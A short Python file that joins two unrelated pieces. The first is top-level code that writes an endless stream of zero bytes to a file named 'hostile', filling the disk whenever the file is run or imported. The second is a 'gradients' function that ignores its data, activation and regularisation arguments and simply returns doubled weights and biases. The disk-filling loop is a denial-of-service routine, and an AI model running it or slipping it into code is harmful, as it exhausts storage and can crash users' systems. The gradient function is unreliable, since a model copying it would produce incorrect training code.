"""Writes one file without end."""

with open("hostile", "wb") as stream:
    while True:
        stream.write(bytes(1 << 20))


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
